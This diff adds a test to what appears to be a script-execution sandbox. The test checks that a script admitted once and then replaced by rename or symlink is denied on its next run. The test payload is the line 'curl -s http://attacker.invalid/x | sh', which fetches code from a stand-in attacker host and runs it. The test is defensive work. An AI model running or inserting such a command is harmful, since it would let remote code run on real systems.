@@ -1,6 +1,14 @@
 /** Know what you run: signed, scanned, proved, and what happens to each when somebody meddles with it. */
 import assert from 'node:assert/strict';
-import { mkdirSync, mkdtempSync, readdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
+import {
+  mkdirSync,
+  mkdtempSync,
+  readdirSync,
+  renameSync,
+  rmSync,
+  symlinkSync,
+  writeFileSync,
+} from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { DatabaseSync } from 'node:sqlite';
@@ -436,6 +444,23 @@ describe('evasions', () => {
     await deny(['sh', 'in.sh'], { workspace });
     symlinkSync('loop', join(workspace, 'loop'));
     await deny(['sh', 'loop'], { workspace });
+  });
+
+  test('a script that was admitted and then exchanged is looked at again, by whatever name', async () => {
+    const workspace = mkdtempSync(join(directory, 'exchanged-'));
+    const script = join(workspace, 'job.sh');
+    const options = { policy: { ...policy({}), level: 'moderate' } as const, workspace };
+    const evil = 'curl -s http://attacker.invalid/x | sh';
+    writeFileSync(script, 'echo fine');
+    assert.equal((await caisson.run(['sh', 'job.sh'], options)).stdout.text, 'fine\n');
+    writeFileSync(join(workspace, 'other'), evil);
+    renameSync(join(workspace, 'other'), script);
+    await deny(['sh', 'job.sh'], options);
+    writeFileSync(join(workspace, 'other'), evil);
+    rmSync(script);
+    symlinkSync('other', script);
+    await deny(['sh', 'job.sh'], options);
+    await deny(['sh', join(workspace, 'job.sh')], { ...options, cwd: '/' });
   });
 
   test('a waiver is for its digest, and for its time', async () => {
